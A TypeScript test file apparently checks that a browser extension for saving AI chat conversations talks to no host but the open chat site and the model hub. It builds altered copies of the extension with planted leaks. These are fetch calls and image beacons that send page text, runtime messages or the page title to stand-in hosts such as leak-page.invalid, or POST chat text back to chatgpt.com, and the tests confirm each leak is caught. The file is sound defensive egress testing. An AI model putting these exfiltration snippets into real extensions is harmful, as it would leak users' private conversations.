/**
 * A run of everything through a proxy that writes down whom the browser turns to: the sites that are open, the hub while a model is
 * downloaded, and nobody else. A copy of the extension into which leaks were planted is caught by the same. All sites with
 * `KURA_IN_FULL=1`.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { alteredBuild, withoutPolicy, type AlteredBuild } from './isolation/altered-build';
import {
  launchRecorded,
  outOfTurn,
  runEverything,
  runWithout,
  spokenIn,
  startGround,
  type Ground,
} from './isolation/egress';
import { captureOn } from './isolation/full-run';
import { strangersIn } from './isolation/recording-proxy';
import { testAll } from './languages';
import { configuredSites, practiceSite, practiceSites } from './practice-sites';

const sites =
  process.env['KURA_IN_FULL'] === '1'
    ? [...practiceSites, ...configuredSites]
    : ['ChatGPT, classic', 'Gemini'].map(practiceSite);

let ground: Ground;
beforeAll(async () => {
  ground = await startGround();
});
afterAll(() => ground?.close());

test(
  'nobody hears of a chat but the site that is open; the hub only while a model is downloaded',
  { timeout: 1_200_000 },
  async () => {
    const told = await runEverything(ground, sites);
    const browsersOwn = new Set((await runWithout(ground, sites)).map(({ host }) => host));
    const strangers = strangersIn(told.exchanges, new Set([...ground.practice.hosts, ...browsersOwn]));
    console.log(
      `${told.exchanges.length} exchanges; by the browser without Kura, too: ${[...browsersOwn].join(', ')}; strangers:`,
      strangers,
    );
    expect(strangers).toEqual({});
    expect(outOfTurn(told, ground.practice.hosts)).toEqual([]);
    expect(told.exchanges.some(({ host }) => host === 'huggingface.co')).toBe(true);
    // What a site's own page asks of its site holds no word of a chat here, in no address, header or body, so that nothing of Kura's
    // could hide in it.
    expect(told.requests.length).toBeGreaterThan(0);
    expect(spokenIn(told.requests)).toEqual([]);
  },
);

describe('leaks that are planted', () => {
  const plants = {
    'content-scripts/chatgpt.js': (text: string) =>
      `${text};setTimeout(() => fetch('https://leak-page.invalid/?' + encodeURIComponent(document.body.innerText.slice(0, 99))), 500);`,
    'background.js': (text: string) =>
      `${text};chrome.runtime.onMessage.addListener(told => void fetch('https://leak-background.invalid/?' + encodeURIComponent(JSON.stringify(told).slice(0, 99))).catch(() => {}));`,
    'welcome.html': (text: string) => text.replace('</head>', '<script src="/planted.js"></script></head>'),
  };

  /** What the same chat is kept with, by a copy into which this was planted. */
  async function keepWith(plant: (copy: AlteredBuild) => void): Promise<void> {
    const copy = alteredBuild();
    plant(copy);
    const kura = await launchRecorded(ground, copy.folder);
    try {
      await captureOn(kura, [practiceSite('ChatGPT, classic')]);
      await new Promise(resolve => setTimeout(resolve, 1000));
    } finally {
      await kura.close();
      copy.remove();
    }
  }

  /** A copy with all of them keeps a chat. */
  const keepWithAll = (withPolicy: boolean, more: (copy: AlteredBuild) => void = () => {}) =>
    keepWith(copy => {
      for (const [file, plant] of Object.entries(plants)) copy.edit(file, plant);
      copy.add('planted.js', `new Image().src = 'https://leak-image.invalid/?' + encodeURIComponent(document.title);`);
      if (!withPolicy) withoutPolicy(copy);
      more(copy);
    });

  /** Whom a run turned to, beside the site that was open, and where a word of the chat went. */
  async function listen(run: () => Promise<void>) {
    const { practice, proxy } = ground;
    const [exchanges, requests] = [proxy.exchanges.length, practice.requests.length];
    await run();
    return {
      heard: Object.keys(strangersIn(proxy.exchanges.slice(exchanges), new Set(practice.hosts))),
      spoken: new Set(spokenIn(practice.requests.slice(requests))),
    };
  }

  /** Tells the site itself, twice a second. */
  const tellSite = (what: string) => (copy: AlteredBuild) =>
    copy.edit(
      'content-scripts/chatgpt.js',
      text => `${text};setInterval(() => fetch('https://chatgpt.com/heard', ${what}).catch(() => {}), 500);`,
    );

  describe('each in its place, and one to the very site that is open, in a body', () => {
    let listened: Awaited<ReturnType<typeof listen>>;
    beforeAll(async () => {
      listened = await listen(() => keepWithAll(true, tellSite(`{ method: 'POST', body: document.body.innerText }`)));
    });

    test('one in a script on a page is named; those in the background and in an own page are stopped by the policy', () => {
      expect(listened.heard).toContain('leak-page.invalid');
      expect(listened.heard).not.toContain('leak-background.invalid');
      expect(listened.heard).not.toContain('leak-image.invalid');
    });

    test('the one to the site is seen, and of the site’s own requests none is taken for it', () => {
      expect([...listened.spoken].filter(place => !place.startsWith('leak-page.invalid'))).toEqual([
        'chatgpt.com/heard',
      ]);
    });
  });

  testAll.each([
    ['in the escapes of a body', `{ method: 'POST', body: escape(document.body.innerText) }`],
    ['in a header', `{ headers: { 'x-told': encodeURIComponent(document.body.innerText).slice(0, 6000) } }`],
  ])('one that goes to the very site that is open is seen, %s', async (_, what) => {
    const { spoken } = await listen(() => keepWith(tellSite(what)));
    expect([...spoken]).toEqual(['chatgpt.com/heard']);
  });

  testAll('and named, too, where there is no policy', async () => {
    expect((await listen(() => keepWithAll(false))).heard).toEqual(
      expect.arrayContaining(['leak-page.invalid', 'leak-background.invalid', 'leak-image.invalid']),
    );
  });
});
